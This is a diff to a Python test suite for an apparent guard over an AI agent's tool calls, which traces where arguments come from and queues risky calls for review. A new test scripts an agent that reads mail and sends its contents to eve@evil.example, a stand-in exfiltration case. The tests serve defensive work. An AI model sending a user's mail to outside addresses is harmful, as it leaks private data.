@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import asyncio
 import json
+from collections import Counter
 from collections.abc import Iterator
+from dataclasses import replace
 from datetime import timedelta
 from pathlib import Path
 from typing import Any, TypedDict
@@ -250,20 +252,10 @@ def test_what_the_actor_cannot_do_is_a_code(world: World) -> None:
     assert result.answer == "done"
     seen = codes(actor)
     assert sorted(seen[:3]) == ["done", "failed", "unregistered_tool"]
-    assert sorted(seen[3:13]) == sorted(
-        [
-            "unknown_reference",
-            "malformed_call",
-            "unknown_reference",
-            "bad_schema",
-            "unknown_schema",
-            "bad_request",
-            "not_a_list",
-            "unverified_field",
-            "unknown_field",
-            "answer_alone",
-        ]
+    expected = {"unknown_reference": 2} | dict.fromkeys(
+        ("malformed_call", "bad_schema", "unknown_schema", "bad_request", "not_a_list", "unverified_field"), 1
     )
+    assert Counter(seen[3:13]) == expected | {"unknown_field": 1, "answer_alone": 1}
     assert seen[13:] == ["malformed_call", "empty_answer", "unknown_reference"]
     assert "the server says" not in str(actor.seen)
     assert "SERVER WORDS" not in str(actor.tools)
@@ -451,6 +443,23 @@ def test_a_registered_schema_is_asked_by_name(world: World) -> None:
     assert told(actor)[1]["values"] == {"due": "2026-01-02"}
     assert len(reader.seen) == 1
     assert reader.tools == []
+
+
+@pytest.mark.claim("C9")
+def test_observing_runs_everything_and_stops_at_nothing_that_is_missing(world: World) -> None:
+    world.services = replace(world.services, mode="observe")
+    actor = scripted(
+        calls(("read_mail", {}), ("invented", {}), prefix="a"),
+        calls(("send_mail", {"to": ref("r4"), "body": "{ref:r7}"}), prefix="b"),
+    )
+    assert world.pipeline(actor).start(TASK, thread="t").answer == "done"
+    assert world.effects == [f"send eve@evil.example: {MAILS[0]['text']}"]
+    assert codes(actor) == ["done", "failed", "done"]
+    row = next(row for row in world.queue.list(thread="t") if row.tool == "send_mail")
+    assert (row.mode, row.verdict_name) == ("observe", "review")
+    origins: Any = row.decision["arguments"]
+    body = next(item["origins"] for item in origins if item["path"] == "body")
+    assert (body[0]["match"], body[0]["source"]) == ("reference", "tool:read_mail/c1x1@t1#0.text")
 
 
 def test_prompts_are_files_with_a_header() -> None:
